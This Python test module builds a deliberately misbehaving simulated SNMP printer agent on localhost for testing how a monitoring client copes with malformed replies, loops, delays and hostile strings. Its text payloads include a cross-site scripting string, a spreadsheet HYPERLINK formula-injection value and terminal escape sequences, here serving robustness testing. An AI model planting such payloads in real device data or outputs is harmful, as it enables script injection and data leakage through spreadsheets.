"""Agents that misbehave on purpose: `with HostileAgent("garbage") as agent: ...`."""

from __future__ import annotations

import dataclasses
import random
import socket
import threading
from bisect import bisect_left, bisect_right
from collections.abc import Callable
from types import TracebackType

from tests.simnet import agent, ber
from tests.simnet.ber import BerError, Oid
from tests.simnet.district import SimDevice, load_district
from tests.simnet.recording import Recording, Typed, parse_oid
from tests.simnet.server import bind
from tests.simnet.spec import User
from tests.simnet.usm import V3Agent

Answer = Callable[[bytes], bytes | None]
LARGEST = 65_507
SUPPLY_TEXT = "1.3.6.1.2.1.43.11.1.1.6.1"
TEXT_OIDS = tuple(
    parse_oid(text)
    for text in (
        "1.3.6.1.2.1.1.1.0",
        "1.3.6.1.2.1.1.4.0",
        "1.3.6.1.2.1.1.5.0",
        "1.3.6.1.2.1.1.6.0",
        "1.3.6.1.2.1.25.3.2.1.3.1",
        "1.3.6.1.2.1.43.5.1.1.16.1",
        "1.3.6.1.2.1.43.5.1.1.17.1",
        "1.3.6.1.2.1.43.11.1.1.6.1.1",
        "1.3.6.1.4.1.11.2.3.9.4.2.1.1.3.3.0",
    )
)
HUGE_OIDS = tuple(oid for oid in TEXT_OIDS if oid[-2:] in ((5, 0), (17, 1), (1, 1)))
"""sysName, serial and a supply: so that an answer to the usual first question still fits."""
TEXTS = {
    "huge-strings": b"A" * 60_000,
    "invalid-utf8": b"Caf\xe9 \xff\xfe\xc3\x28 \xed\xa0\x80 room",
    "control-characters": b"room\x00\x07\x1b[31mred\x1b[0m\r\n\x08\x7f\xe2\x80\xae101",
    "html": b"<script>alert('x')</script><img src=x onerror=alert(1)>",
    "formula": b'=HYPERLINK("http://example.invalid/?"&A1,"room")',
}
"""Behaviours that put this text wherever a text is told: system group, names, serial, supplies."""


class Loop(Recording):
    """GETNEXT answers with the very name that was asked for."""

    def after(self, oid: Oid, *, counter64: bool = True) -> Oid | None:
        return oid

    def varbind(self, oid: Oid) -> bytes:
        return ber.tlv(ber.SEQUENCE, ber.oid(oid) + ber.tlv(ber.OCTETS, b"again"))


class Infinite(Loop):
    """GETNEXT finds one more instance below whatever is asked, for ever."""

    def after(self, oid: Oid, *, counter64: bool = True) -> Oid | None:
        return (*oid[:-1], oid[-1] + 1) if oid[-1] >= 10**6 else (*oid, 10**6)


class Backwards(Recording):
    """GETNEXT from an instance answers with the one before it."""

    def after(self, oid: Oid, *, counter64: bool = True) -> Oid | None:
        at = bisect_left(self.oids, oid)
        if oid in self.values:
            return self.oids[max(0, at - 1)]
        return self.oids[at + 1] if at + 1 < len(self.oids) else None


class Cycle(Recording):
    """GETNEXT runs round in circles of three instances."""

    def after(self, oid: Oid, *, counter64: bool = True) -> Oid | None:
        at = bisect_right(self.oids, oid)
        if oid in self.values and at % 3 == 0:
            return self.oids[at - 3]
        return self.oids[at] if at < len(self.oids) else None


WALKS: dict[str, type[Recording]] = {
    "getnext-loop": Loop,
    "infinite": Infinite,
    "backwards": Backwards,
    "cycle": Cycle,
}


def _garbage(reply: bytes) -> bytes:
    return random.Random(len(reply)).randbytes(200)


def _bit_rot(reply: bytes) -> bytes:
    dice, rotten = random.Random(reply), bytearray(reply)
    for _ in range(3):
        rotten[dice.randrange(len(rotten))] ^= 1 << dice.randrange(8)
    return bytes(rotten)


def _with(reply: bytes, request_shift: int = 0, status: int = 0) -> bytes:
    version, community, (kind, pdu) = ber.elements(ber.element(reply)[1])
    number, _, _, bindings = ber.fields(pdu, (ber.INTEGER, ber.INTEGER, ber.INTEGER, ber.SEQUENCE))
    body = agent.response(
        ber.to_int(number) + request_shift, status, 1 if status else 0, bindings, kind
    )
    return ber.tlv(ber.SEQUENCE, ber.tlv(*version) + ber.tlv(*community) + body)


REPLIES: dict[str, Callable[[bytes], bytes]] = {
    "garbage": _garbage,
    "bit-rot": _bit_rot,
    "empty": lambda _: b"",
    "truncated": lambda reply: reply[: len(reply) // 2],
    "oversized": lambda reply: reply + bytes(65_000 - len(reply)),
    "nested": lambda _: b"\x30\x80" * 20_000,
    "length-bomb": lambda _: b"\x30\x84\x7f\xff\xff\xff\x02\x01\x01",
    "wrong-request-id": lambda reply: _with(reply, request_shift=1),
    "wrong-community": lambda reply: reply.replace(b"\x04\x06public", b"\x04\x06secret", 1),
    "gen-error": lambda reply: _with(reply, status=agent.GEN_ERR),
    "too-big": lambda reply: _with(reply, status=agent.TOO_BIG),
    "undefined-error": lambda reply: _with(reply, status=2**31 - 1),
}
SENDING = {"silent", "slow", "wrong-address", "wrong-port", "duplicate"}
V3 = {"v3-restless", "v3-new-engine"}
OTHER = {"honest", "wrong-types", "endless"}
BEHAVIOURS = frozenset({*SENDING, *V3, *OTHER, *TEXTS, *WALKS, *REPLIES})
"""All names that `HostileAgent` takes."""

WRONG: dict[int, Typed] = {
    2: (4, b"12"),
    4: (2, -7),
    6: (4, b"not an oid"),
    64: (4, b"x"),
    65: (4, b"many"),
    66: (6, (1, 3, 6)),
    67: (4, b"\xff" * 9),
    70: (2, -1),
}


def recording_for(behaviour: str, values: dict[Oid, Typed], rows: int, table: str) -> Recording:
    """What the agent tells, if it is in the values that it misbehaves."""
    if behaviour == "wrong-types":
        return Recording({oid: WRONG.get(typed[0], typed) for oid, typed in values.items()})
    if behaviour in TEXTS:
        places = HUGE_OIDS if behaviour == "huge-strings" else TEXT_OIDS
        return Recording({**values, **dict.fromkeys(places, (4, TEXTS[behaviour]))})
    if behaviour == "endless":
        root = parse_oid(table)
        return Recording({**values, **{(*root, n): (4, b"row %d" % n) for n in range(1, rows + 1)}})
    return WALKS.get(behaviour, Recording)(values)


class HostileAgent:
    """One agent with one bad habit, otherwise a v1/v2c printer with the community "public".

    behaviour  one of `BEHAVIOURS`; "honest" is the same agent without the habit
    port       0: a free one, then in `port`
    delay      seconds, for "slow"
    rows       length of the table, for "endless"
    table      its column, for "endless"
    device     what it pretends to be
    received   datagrams that came in
    "v3-restless" restarts before each answer (never in the time window), "v3-new-engine" has
    another engine id each time; both know the noAuthNoPriv user "guest".
    """

    def __init__(
        self,
        behaviour: str,
        address: str = "127.0.0.2",
        port: int = 0,
        *,
        delay: float = 1.0,
        rows: int = 100_000,
        table: str = SUPPLY_TEXT,
        device: SimDevice | None = None,
    ) -> None:
        if behaviour not in BEHAVIOURS:
            raise ValueError(f"unknown behaviour {behaviour!r}: {', '.join(sorted(BEHAVIOURS))}")
        self.behaviour, self.address, self.delay = behaviour, address, delay
        self.received = 0
        self._device = device or _printer()
        self._answer = self._answers(rows, table)
        self._socket = bind(address, port)
        self._socket.setblocking(True)
        self.port = int(self._socket.getsockname()[1])
        self._others: list[socket.socket] = []
        self._timers: list[threading.Timer] = []
        self._running = True
        self._thread = threading.Thread(target=self._serve, name="hostile", daemon=True)

    def _answers(self, rows: int, table: str) -> Answer:
        if self.behaviour in V3:
            return self._v3()
        values = self._device.recording.values
        recording = recording_for(self.behaviour, values, rows, table)

        def answer(datagram: bytes) -> bytes | None:
            return agent.community_answer(
                datagram,
                recording,
                community=b"public",
                versions=frozenset({0, 1}),
                max_message=LARGEST if self.behaviour == "huge-strings" else 1472,
            )

        return answer

    def _v3(self) -> Answer:
        recording = self._device.recording
        engine = V3Agent(User("guest"), b"\x80\x00\x1f\x88\x04hostile0", {"": recording})

        def answer(datagram: bytes) -> bytes | None:
            if self.behaviour == "v3-restless":
                engine.reboot()
                engine.boots += 1000
            else:
                engine.engine_id = engine.engine_id[:-1] + bytes((self.received % 250,))
            return engine.answer(datagram)

        return answer

    def _serve(self) -> None:
        while self._running:
            try:
                datagram, peer = self._socket.recvfrom(65535)
            except OSError:
                return
            self.received += 1
            try:
                reply = self._answer(datagram)
            except BerError:
                continue
            if reply is not None:
                self._send(reply, peer)

    def _send(self, reply: bytes, peer: tuple[str, int]) -> None:
        if self.behaviour == "silent":
            return
        if self.behaviour == "slow":
            timer = threading.Timer(self.delay, self._late, (reply, peer))
            timer.daemon = True
            self._timers = [t for t in self._timers if t.is_alive()] + [timer]
            timer.start()
            return
        if self.behaviour in ("wrong-address", "wrong-port"):
            self._stranger().sendto(reply, peer)
            return
        if self.behaviour in REPLIES:
            reply = REPLIES[self.behaviour](reply)
        for _ in range(3 if self.behaviour == "duplicate" else 1):
            self._socket.sendto(reply, peer)

    def _late(self, reply: bytes, peer: tuple[str, int]) -> None:
        if self._running:
            self._socket.sendto(reply, peer)

    def _stranger(self) -> socket.socket:
        """A socket of another address with our port, or of our address with another port."""
        if not self._others:
            head, last = self.address.rsplit(".", 1)
            other = f"{head}.{(int(last) + 100) % 250 + 1}"
            there = (other, self.port) if self.behaviour == "wrong-address" else (self.address, 0)
            self._others.append(bind(*there))
        return self._others[0]

    def __enter__(self) -> HostileAgent:
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._running = False
        for timer in self._timers:
            timer.cancel()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as waker:
            waker.sendto(b"", (self.address, self.port))
        self._thread.join(timeout=5)
        for sock in (self._socket, *self._others):
            sock.close()


def _printer() -> SimDevice:
    """A printer whose serial is in several places."""
    district = load_district()
    spec = next(spec for spec in district.specs if spec.name == "LES-PRN-OFFICE")
    alone = dataclasses.replace(district, specs=(spec,))
    return alone.devices()[0]
